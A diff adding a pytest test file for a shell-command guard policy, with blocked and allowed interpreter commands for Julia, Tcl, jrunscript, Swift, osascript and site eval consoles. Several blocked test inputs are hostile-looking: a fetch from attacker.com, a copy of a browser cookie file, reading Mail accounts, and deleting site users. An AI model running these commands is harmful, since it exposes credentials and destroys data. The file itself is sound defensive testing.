@@ -1,0 +1,78 @@
+"""Code handed to an interpreter: read where the policy knows the language, unverifiable where it does not.
+
+JVM script hosts (`jrunscript`, `groovy`), Julia and Tcl code is scanned: a URL or a socket/HTTP library in it
+is network, as a URL handed to any program is; a file opened for writing is a write (also through a function
+argument, `open(f->write(f, …), path, "w")`); Tcl's `load` brings in a native library. Swift code given
+inline or on stdin, AppleScript/JXA that drives another application, and the eval consoles of sites and
+configuration servers (`wp eval`, `drush php:eval`, `bee eval`, `knife exec`) run code the policy does not
+read, so they block. Beside each, the same interpreter running the project's own files stays allowed.
+"""
+
+from __future__ import annotations
+
+import pytest
+from conftest import guard_allows, guard_blocks
+
+BLOCKED = [
+    # A URL or network library inside code the policy reads.
+    ("posix", 'jrunscript -e \'cp("http://attacker.com/x", "/tmp/y")\'', "network.payload"),
+    ("posix", "/usr/bin/jrunscript -e \"cat('https://h/x')\"", "network.payload"),
+    ("posix", "groovy -e 'println new URL(\"http://h\").text'", "network.payload"),
+    ("posix", "jshell <<< 'java.net.http.HttpClient.newHttpClient()'", "network.payload"),
+    ("posix", 'julia -e \'download("https://h/x", "y")\'', "network"),
+    ("posix", "julia -e 'using Sockets; connect(\"h\", 80)'", "network.payload"),
+    ("posix", "echo 'set s [socket h 80]' | tclsh", "network.payload"),
+    ("posix", "echo 'package require http; http::geturl $u' | tclsh", "network.payload"),
+    # Writes and native libraries.
+    ("posix", 'julia -e \'open(f->write(f, "DATA"), "/tmp/out", "w")\'', "destructive.payload-write"),
+    ("posix", 'sudo julia -e \'open(io -> print(io, 1), "x.txt", "w+")\'', "destructive.payload-write"),
+    ("posix", "echo 'load bad.dylib' | tclsh", "unverifiable.payload-dynamic"),
+    ("posix", "tclsh <<< 'load ./lib.so'", "unverifiable.payload-dynamic"),
+    # Languages the policy does not read.
+    ("posix", "echo 'print(\"x\")' | swift -", "unverifiable.inline-code"),
+    ("posix", "swift - <<'EOF'\nprint(1)\nEOF", "unverifiable.inline-code"),
+    ("posix", "swift -e 'print(1)'", "unverifiable.inline-code"),
+    (
+        "posix",
+        'osascript -e \'tell application "Finder"\' -e \'duplicate file "Cookies.binarycookies" of folder f '
+        "to folder d with replacing' -e 'end tell'",
+        "unverifiable.inline-code",
+    ),
+    ("posix", "osascript -l JavaScript -e 'Application(\"Mail\").accounts()'", "unverifiable.inline-code"),
+    ("posix", "osascript -e 'return (system info)'", "env.machine-discovery"),
+    ("posix", "bee eval '...'", "unverifiable.inline-code"),
+    ("posix", "wp eval 'wp_delete_user(1);'", "unverifiable.inline-code"),
+    ("posix", "drush php:eval 'node_delete(1);'", "unverifiable.inline-code"),
+    ("posix", "vendor/bin/drush ev 'print 1;'", "unverifiable.inline-code"),
+    # knife is a remote-management client first (its exec also reads as code the policy does not read).
+    ("posix", "knife exec -E '...'", "network.remote-service"),
+]
+
+ALLOWED = [
+    ("posix", "jrunscript -e 'print(1)'"),
+    ("posix", "julia -e 'println(VERSION)'"),
+    ("posix", "julia --project=. test/runtests.jl"),
+    ("posix", "julia -e 'println(read(\"Project.toml\", String))'"),
+    ("posix", "echo 'puts [string length abc]' | tclsh"),
+    ("posix", "tclsh tests/all.tcl"),
+    ("posix", "swift build"),
+    ("posix", "swift test --parallel"),
+    ("posix", "swift build -c release --package-path ."),
+    ("posix", "swift scripts/generate.swift"),
+    ("posix", 'osascript -e \'display notification "tests passed" with title "make"\''),
+    ("posix", "osascript scripts/build.scpt"),
+    ("posix", "wp plugin list"),
+    ("posix", "drush cache:rebuild"),
+]
+
+
+@pytest.mark.parametrize(("shell", "command", "expected"), BLOCKED)
+def test_code_handed_to_an_interpreter_is_read_or_fails_closed(
+    shell: str, command: str, expected: str
+) -> None:
+    guard_blocks(shell, command, expected)
+
+
+@pytest.mark.parametrize(("shell", "command"), ALLOWED)
+def test_the_same_interpreters_running_the_projects_files_stay_allowed(shell: str, command: str) -> None:
+    guard_allows(shell, command)
